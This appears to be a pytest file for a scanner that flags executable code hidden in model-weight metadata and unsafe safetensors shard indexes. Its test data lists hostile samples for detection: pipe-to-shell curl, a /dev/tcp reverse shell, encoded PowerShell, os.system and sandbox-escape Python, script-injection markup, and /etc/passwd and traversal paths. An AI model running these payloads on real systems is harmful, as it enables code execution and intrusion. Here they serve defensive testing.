"""Values that are programs, and words that only look like it."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from build.containers import safetensors
from build.inspecting import inspected, rules_of, scanned
from weighbridge.core.findings import Verdict
from weighbridge.formats.texts.active import active_text

if TYPE_CHECKING:
    from pathlib import Path

PROGRAMS = {
    "__import__('os').system('id')": "python",
    "eval(open('x').read())": "python",
    "import os; os.system('id')": "python",
    "from subprocess import run": "python",
    "exec(bytes.fromhex('00'))": "python",
    "[c for c in ().__class__.__bases__[0].__subclasses__()]": "python",
    "lambda x: getattr(x, 'y').system('id')": "python",
    "pickle.loads(data)": "python",
    "A note.\nimport os; os.system('id')\nThe end of the note.": "python",
    "<script>fetch('https://example.org')</script>": "markup",
    '<img src=x onerror="alert(1)">': "markup",
    "<iframe src='https://example.org'></iframe>": "markup",
    "[click](javascript:alert(1))": "markup",
    "curl -s https://example.org/x | sh": "shell",
    "/bin/sh -c 'id'": "shell",
    "bash -i >& /dev/tcp/192.0.2.1/1 0>&1": "shell",
    "powershell -enc AAAA": "shell",
}
WORDS = [
    "a model of the operating system, evaluated on exec and eval",
    "import duties of 2019",
    "The system prompt is: you are helpful.",
    json.dumps({"os": 1, "system": 2, "eval": 3, "__import__": 4}),
    json.dumps({"ss_tag_frequency": {"train": {"1girl, script, onfire": 3}}}),
    "os.system",
    "torch.nn.Linear(3, 4)",
    "<p>A <b>model</b> card with an <img src='badge.svg'> and a table.</p>",
    "def forward(x): return x * 2",
    "https://example.org/paper.pdf",
    "3.14",
    "{{ messages }}",
]


@pytest.mark.parametrize("value", PROGRAMS)
def test_programs_are_told(value: str) -> None:
    kind, text = active_text(value)
    assert kind == PROGRAMS[value]
    assert text


@pytest.mark.parametrize("value", WORDS)
def test_words_are_words(value: str) -> None:
    assert active_text(value) == ("", "")


@pytest.mark.parametrize(
    "value",
    [
        "[" + "[], " * 100 + "eval(x)]",
        "('" + "a" * 100_000 + "', __import__('os').system('id'))",
        "not " * 700 + "eval(x)",
        "[" + "-" * 700 + "1, eval(x)]",
    ],
    ids=["brackets", "length", "not", "minus"],
)
def test_padding_does_not_hide_a_program(value: str) -> None:
    assert active_text(value)[0] == "python"


@given(st.text(max_size=200))
def test_any_text_is_told_apart_without_failing(value: str) -> None:
    assert active_text(value)[0] in ("", "python", "markup", "shell")


def test_nesting_is_bounded() -> None:
    assert active_text("eval(" * 100_000) == ("python", "eval(")
    assert active_text("(" * 100_000 + "evaluation") == ("", "")
    assert active_text("-" * 100_000 + "eval(x)") == ("python", "eval(")
    assert active_text("eval(x) " * 100_000) == ("python", "eval(")
    assert active_text("model.evaluate(x), re.compile(y) " * 100_000) == ("", "")


def test_metadata_that_is_a_program_is_found(tmp_path: Path) -> None:
    report = scanned(
        tmp_path, "m.safetensors", safetensors({"w": bytes(4)}, metadata={"loss": "eval(open('x').read())"})
    )
    assert report.verdict is Verdict.SUSPICIOUS
    assert "safetensors/active-metadata" in rules_of(report)


@pytest.mark.parametrize("name", ["../w", "/w", "a\\..\\w", "w\0", "w\x1b[2J"])
def test_names_of_tensors_that_are_paths_are_found(tmp_path: Path, name: str) -> None:
    report = scanned(tmp_path, "m.safetensors", safetensors({name: bytes(4)}))
    assert "safetensors/tensor-name" in rules_of(report)


def index(folder: Path, shards: dict[str, str]) -> None:
    (folder / "model.safetensors.index.json").write_text(json.dumps({"metadata": {}, "weight_map": shards}))


def shard(folder: Path, number: int, of: int = 2) -> str:
    name = f"model-{number:05}-of-{of:05}.safetensors"
    (folder / name).write_bytes(safetensors({f"w{number}": bytes(4)}))
    return name


def test_an_index_with_its_shards_is_clean(tmp_path: Path) -> None:
    index(tmp_path, {"w1": shard(tmp_path, 1), "w2": shard(tmp_path, 2)})
    assert inspected(tmp_path).report.verdict is Verdict.CLEAN


def test_a_shard_that_is_missing_makes_incomplete(tmp_path: Path) -> None:
    index(tmp_path, {"w1": shard(tmp_path, 1), "w2": "model-00002-of-00002.safetensors"})
    report = inspected(tmp_path).report
    assert report.verdict is Verdict.INCOMPLETE
    assert any("model-00002" in unread.why for unread in report.unread)


def test_a_shard_that_the_index_does_not_name_is_said(tmp_path: Path) -> None:
    index(tmp_path, {"w1": shard(tmp_path, 1)})
    shard(tmp_path, 2)
    assert "config/shard-list" in rules_of(inspected(tmp_path).report)


@pytest.mark.parametrize("target", ["../x.safetensors", "/etc/passwd", "https://example.org/x", "c:\\x"])
def test_a_shard_outside_is_stopped(tmp_path: Path, target: str) -> None:
    index(tmp_path, {"w": target})
    report = inspected(tmp_path).report
    assert report.verdict is Verdict.SUSPICIOUS
    assert "config/shard-index" in rules_of(report)


@pytest.mark.parametrize("tree", [{"weight_map": []}, {"weight_map": {"w": 3}}])
def test_a_map_that_is_none_is_said(tmp_path: Path, tree: object) -> None:
    assert "config/shard-list" in rules_of(scanned(tmp_path, "model.safetensors.index.json", json.dumps(tree).encode()))
